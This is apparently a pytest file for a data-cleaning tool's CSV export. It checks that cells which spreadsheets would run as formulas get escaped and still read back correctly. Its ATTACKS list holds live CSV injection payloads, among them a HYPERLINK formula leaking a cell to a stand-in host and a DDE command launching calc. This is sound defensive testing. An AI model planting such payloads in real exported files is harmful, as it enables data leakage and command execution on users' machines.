"""CSV injection (issue 15): every CSV the product writes (cleaned_pairs_clean-ge-<t>.csv, decisions.csv, the
`mdw score` output) neutralises text cells a spreadsheet would run as formulas, keeps numbers as
numbers, and reads back through the product's own table reader as the text that was written."""
import csv
import json
import os

import numpy as np
import pytest
import torch

from mdw.csvio import csv_text, escape_cell, unescape_cell
from mdw.data.tables import read_table
from mdw.runs.audit import record_decision
from mdw.runs.view import RunView

ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+2", "-2+3 shapes"]
CAPTIONS = ATTACKS + ["'=a caption that starts with an apostrophe", "a red circle above a blue square"]


def raw_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def expected_cell(text):
    return "'" + text if text[:1] in "=+-@\t\r" or text.startswith("'=") else text


def test_escape_rule_and_its_inverse():
    for text in ATTACKS + ["\tx", "\rx", "'=x", "''@x"]:
        assert escape_cell(text) == "'" + text and unescape_cell(escape_cell(text)) == text
    for text in ["a red circle", "'quoted'", "x=1", "", "'", "'a"]:
        assert escape_cell(text) == text and unescape_cell(text) == text
    for number in (-0.5, -3, np.float32(-0.25), np.int64(-7), None, True):
        assert escape_cell(number) is number
    text = csv_text(["name", "value"], [["-0.5", -0.5], {"name": "=1+1", "value": np.float32(-0.25)}],
                    float_format=".3f")
    assert text.splitlines() == ["name,value", "'-0.5,-0.500", "'=1+1,-0.250"]
    with pytest.raises(ValueError, match="not columns"):
        csv_text(["a"], [{"a": 1, "b": 2}])


@pytest.fixture
def run_dir(tmp_path):
    """A run folder with the files the cleaned-pairs export reads: the run's data and DTCL scores."""
    from helpers import write_run_data_for
    from mdw.train.experts_io import save_scores
    run = tmp_path / "run"
    keys = [f"img{i}.png" for i in range(len(CAPTIONS) - 1)] + ["-dash.png"]
    run.mkdir()
    for k in keys:
        (run / k).write_bytes(b"")  # the table reader only checks that image files exist
    write_run_data_for(run, CAPTIONS, keys=keys)
    consensus = np.linspace(0.6, 0.99, len(CAPTIONS))[None]
    save_scores(str(run), "dtcl", {"consensus": consensus, "wA": consensus, "wB": consensus,
                                   "flag": consensus < 0.5}, np.arange(len(CAPTIONS)), None)
    return str(run)


def test_cleaned_pairs_export_is_neutralised_and_reads_back(run_dir):
    path, n = RunView(run_dir).cleaned_pairs_csv(threshold=0.5)
    assert os.path.basename(path) == "cleaned_pairs_clean-ge-0.50.csv" and n == len(CAPTIONS)
    rows = raw_rows(path)
    assert [r["caption"] for r in rows] == [expected_cell(c) for c in CAPTIONS]
    assert rows[-1]["image"] == "'-dash.png" and rows[0]["clean_score"] == "0.6"
    back = read_table(path, image_root=run_dir, max_skip_fraction=0.0)
    assert back.captions == CAPTIONS and back.images.key(back.pair_image[-1]) == "-dash.png"


def test_decisions_csv_comments_are_neutralised_and_read_back(run_dir):
    for i, comment in enumerate(CAPTIONS):
        record_decision(run_dir, "pair", i, "noisy", comment)
    path = RunView(run_dir).decisions_csv()
    rows = raw_rows(path)
    assert [r["comment"] for r in rows] == [expected_cell(c) for c in CAPTIONS]
    assert [unescape_cell(r["comment"]) for r in rows] == CAPTIONS  # what read_table applies per cell
    assert [r["item"] for r in rows] == [str(i) for i in range(len(CAPTIONS))]


def test_score_output_is_neutralised_numbers_untouched_and_reads_back(tmp_path):
    from mdw.config import ModelConfig
    from mdw.models.presets import build_model
    from mdw.train.gmm import LossGMM
    from mdw.train.score import score_file

    run = tmp_path / "run"
    experts = run / "experts" / "dtcl"
    experts.mkdir(parents=True)
    model = build_model(ModelConfig(device="cpu"), image_size=32, seed=0)
    torch.save({"params": model.flat_params(), "buffers": model.flat_buffers()}, experts / "final_A.pt")
    rng = np.random.default_rng(0)
    ref_caps = ["a red circle", "a blue square", "a green star", "two shapes"]
    torch.save({"images": torch.from_numpy(rng.integers(0, 256, (4, 32, 32, 3), dtype=np.uint8)),
                "g0": model.text.encode_g0(ref_caps).float(), "pair_ids": torch.arange(4)}, experts / "reference.pt")
    cfg = ModelConfig()
    (experts / "meta.json").write_text(json.dumps({
        "kind": "dtcl", "tracks": ["A"], "preset": cfg.preset, "embed_dim": cfg.embed_dim, "image_size": 32,
        "flag_threshold": 0.5, "gmm": {"A": LossGMM.no_split(0.0, 1.0, "test").to_dict()}}))
    from PIL import Image
    lines = []  # JSONL input: taken as is (a CSV cell "'=..." would be read as an escaped "=...")
    for k, cap in enumerate(CAPTIONS):
        Image.fromarray(rng.integers(0, 256, (32, 32, 3), dtype=np.uint8)).save(tmp_path / f"p{k}.png")
        lines.append(json.dumps({"image": f"p{k}.png", "caption": cap}))
    (tmp_path / "pairs.jsonl").write_text("\n".join(lines) + "\n")
    out = str(tmp_path / "pairs.scores.csv")
    assert score_file(str(run), str(tmp_path / "pairs.jsonl"), out) == len(CAPTIONS)
    rows = raw_rows(out)
    assert [r["caption"] for r in rows] == [expected_cell(c) for c in CAPTIONS]
    for r in rows:  # numbers are written as numbers (6 decimals), negative or not, never escaped
        for col in ("similarity", "clean", "similarity_A", "clean_A"):
            assert not r[col].startswith("'") and len(r[col].split(".")[1]) == 6 and np.isfinite(float(r[col]))
    assert read_table(out, image_root=str(tmp_path), max_skip_fraction=0.0).captions == CAPTIONS


def test_a_negative_score_is_not_prefixed(tmp_path):
    from mdw.csvio import write_csv
    path = write_csv(tmp_path / "x.csv", ["image", "caption", "similarity"],
                     [["a.png", "-1 shapes", -0.123456789]], float_format=".6f")
    with open(path, newline="") as f:
        assert list(csv.reader(f))[1] == ["a.png", "'-1 shapes", "-0.123457"]
